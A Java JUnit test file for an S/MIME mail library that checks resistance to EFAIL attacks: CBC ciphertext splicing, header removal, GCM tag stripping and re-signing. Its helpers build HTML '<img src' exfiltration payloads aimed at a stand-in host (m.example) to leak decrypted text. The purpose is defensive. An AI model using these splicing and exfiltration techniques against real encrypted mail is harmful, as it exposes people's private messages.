package org.sealpost.smime;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sealpost.crypto.EncryptionFormat;
import org.sealpost.protocol.SealpostException;

/**
 * Encrypted mail that was cut and joined by somebody without a key. Under CBC it still decrypts, so it must come out
 * marked as text only; with a signature inside that signature must break; under GCM nothing may come out at all.
 */
class EfailTest {

    private static final String KNOWN = "Content-Type: te";
    private static final String KNOWN_OF_SIGNED = "Content-Type: mu";
    private static final String[] PICTURE = {"\r\n\r\n<img ignor", " src=\"http://m.", "example/?        "};

    @ParameterizedTest
    @EnumSource(names = {"AES_256_CBC", "AES_128_CBC"})
    void aSplicedMessageIsShownAsTextOnly(EncryptionFormat format) throws IOException {
        byte[] sealed = Corp.encrypt(Corp.LETTER, format, Corp.BOB_RSA);
        byte[] spliced = CbcGadgets.of(sealed).spliced(sealed, KNOWN, pieces());
        try (OpenedMessage opened = Corp.open(spliced, Corp.BOB_RSA)) {
            assertThat(text(opened)).as("the attack itself works").contains("<img ignor", "building");
            assertThat(opened.sealState().protectedFromChange()).isFalse();
            assertThat(opened.sealState().textOnly()).isTrue();
            assertThat(opened.signatures()).isEmpty();
        }
    }

    @Test
    void anotherBeginningIsShownAsTextOnly() throws IOException {
        byte[] sealed = Corp.encrypt(Corp.LETTER, EncryptionFormat.AES_256_CBC, Corp.CAROL_EC);
        byte[] changed = CbcGadgets.of(sealed).restarted(sealed, KNOWN, "Content-Base: ht");
        try (OpenedMessage opened = Corp.open(changed, Corp.CAROL_EC)) {
            assertThat(text(opened)).contains("Content-Base: ht", "building");
            assertThat(opened.sealState().textOnly()).isTrue();
        }
    }

    @Test
    void aMessageWithoutItsHeadIsShownAsTextOnly() throws IOException {
        byte[] sealed = Corp.encrypt(Corp.LETTER, EncryptionFormat.AES_256_CBC, Corp.BOB_RSA);
        try (OpenedMessage opened = Corp.open(CbcGadgets.of(sealed).beheaded(sealed, 2), Corp.BOB_RSA)) {
            assertThat(text(opened)).contains("building").doesNotContain("text/plain");
            assertThat(opened.sealState().textOnly()).isTrue();
        }
    }

    @ParameterizedTest
    @EnumSource(names = {"AES_256_CBC", "AES_128_CBC"})
    void splicingBreaksTheSignatureInside(EncryptionFormat format) throws IOException {
        for (SignatureForm form : SignatureForm.values()) {
            byte[] sealed = Corp.signAndEncrypt(Corp.LETTER, form, format, Corp.BOB_RSA);
            String known = form == SignatureForm.CLEAR ? KNOWN_OF_SIGNED : "Content-Type: ap";
            assertUnprotected(CbcGadgets.of(sealed).spliced(sealed, known, pieces()));
            assertUnprotected(CbcGadgets.of(sealed).beheaded(sealed, 1));
            byte[] unchanged = CbcGadgets.of(sealed).unchanged(sealed);
            try (OpenedMessage opened = Corp.open(unchanged, Corp.BOB_RSA)) {
                assertThat(opened.signaturesHold()).as("nothing changed").isTrue();
            }
        }
    }

    /** Turning the signed multipart into a picture in front of it takes the signature away, and with it the trust. */
    @Test
    void aSignedMessageTurnedIntoHtmlIsNoLongerSigned() throws IOException {
        byte[] sealed =
                Corp.signAndEncrypt(Corp.LETTER, SignatureForm.CLEAR, EncryptionFormat.AES_256_CBC, Corp.BOB_RSA);
        byte[] changed = CbcGadgets.of(sealed).restarted(sealed, KNOWN_OF_SIGNED, "X-Content-Was:mu");
        try (OpenedMessage opened = Corp.open(changed, Corp.BOB_RSA)) {
            assertThat(text(opened)).contains("building");
            assertThat(opened.signatures()).isEmpty();
            assertThat(opened.sealState().textOnly()).isTrue();
        }
    }

    /** The content key of an authenticated message is not used to decrypt the same bytes in another way. */
    @ParameterizedTest
    @ValueSource(ints = {1, 2, 3, 4, 5, 6, 7, 8})
    void takingTheTagAwayRevealsNothing(int attempt) throws IOException {
        byte[] letter = Der.join(Corp.LETTER, Corp.ascii("x".repeat(attempt * 16)));
        byte[] sealed = Corp.encrypt(letter, EncryptionFormat.AES_256_GCM, Corp.BOB_RSA);
        byte[] downgraded = CbcGadgets.withoutTag(sealed).unchanged(sealed);
        try (OpenedMessage opened = Corp.open(downgraded, Corp.BOB_RSA)) {
            assertThat(text(opened)).doesNotContain("building", "text/plain");
            assertThat(opened.sealState().textOnly()).isTrue();
        } catch (SealpostException e) {
            assertThat(e).isInstanceOf(CannotDecrypt.class);
        }
    }

    /** What others call direct exfiltration: the encrypted part between two halves of a picture. */
    @ParameterizedTest
    @ValueSource(strings = {"mixed", "alternative", "related", "digest", "parallel", "report", "signed"})
    void anEncryptedPartInsideAnythingElseStaysClosed(String multipart) throws IOException {
        for (EncryptionFormat format : List.of(EncryptionFormat.AES_256_CBC, EncryptionFormat.AES_256_GCM)) {
            byte[] spliced = inside(multipart, Corp.encrypt(Corp.LETTER, format, Corp.BOB_RSA));
            try (OpenedMessage opened = Corp.open(spliced, Corp.BOB_RSA)) {
                assertThat(opened.sealState().encrypted()).isFalse();
                assertThat(Corp.content(opened)).isEqualTo(spliced);
            }
        }
    }

    @Test
    void anEncryptedMessageInsideAForwardedOneStaysClosed() throws IOException {
        byte[] sealed = Corp.encrypt(Corp.LETTER, EncryptionFormat.AES_256_CBC, Corp.BOB_RSA);
        byte[] forwarded = Der.join(
                Corp.ascii("From: mallory@example.org\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"),
                sealed);
        try (OpenedMessage opened = Corp.open(forwarded, Corp.BOB_RSA)) {
            assertThat(Corp.content(opened)).isEqualTo(forwarded);
        }
    }

    /** A stolen message under a signature of somebody who is not its From must not be opened for them. */
    @Test
    void aStolenMessageUnderAForeignSignatureStaysClosed() throws IOException {
        byte[] stolen = Corp.encrypt(Corp.LETTER, EncryptionFormat.AES_256_GCM, Corp.BOB_RSA);
        byte[] resigned = Corp.sign(stolen, Corp.ALICE_SIGNS, SignatureForm.OPAQUE);
        String fromMallory = new String(resigned, StandardCharsets.ISO_8859_1)
                .replace("Alice <alice@corp.example>", "mallory@example.org");
        try (OpenedMessage opened = Corp.open(Corp.ascii(fromMallory), Corp.BOB_RSA)) {
            assertThat(opened.remaining()).isEqualTo(MessageKind.ENCRYPTED);
            assertThat(text(opened)).doesNotContain("building");
        }
    }

    @Test
    void aDamagedTagReleasesNothing() throws IOException {
        byte[] sealed = Corp.encrypt(Corp.LETTER, EncryptionFormat.AES_128_GCM, Corp.BOB_RSA);
        byte[] cms = CmsBytes.of(sealed);
        cms[cms.length - 1] ^= 1;
        byte[] damaged = CmsBytes.replaced(sealed, cms);
        assertThatThrownBy(() -> Corp.open(damaged, Corp.BOB_RSA)).isExactlyInstanceOf(CannotDecrypt.class);
    }

    private static void assertUnprotected(byte[] changed) throws IOException {
        try (OpenedMessage opened = Corp.open(changed, Corp.BOB_RSA)) {
            assertThat(opened.sealState().textOnly()).isTrue();
            assertThat(opened.signaturesHold()).isFalse();
        } catch (SealpostException e) {
            assertThat(e).isInstanceOfAny(MalformedSeal.class, UnknownFormat.class);
        }
    }

    private static byte[] inside(String multipart, byte[] sealed) {
        String all = new String(sealed, StandardCharsets.ISO_8859_1);
        return Corp.ascii("From: mallory@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/" + multipart
                + "; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://m.example/\r\n--x\r\n"
                + all.substring(all.indexOf("Content-Type"))
                + "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n");
    }

    private static String[] pieces() {
        List<String> pieces = new ArrayList<>();
        for (String piece : PICTURE) {
            pieces.add((piece + " ".repeat(CbcGadgets.BLOCK)).substring(0, CbcGadgets.BLOCK));
        }
        return pieces.toArray(String[]::new);
    }

    private static String text(OpenedMessage opened) throws IOException {
        return new String(Corp.content(opened), StandardCharsets.ISO_8859_1);
    }
}
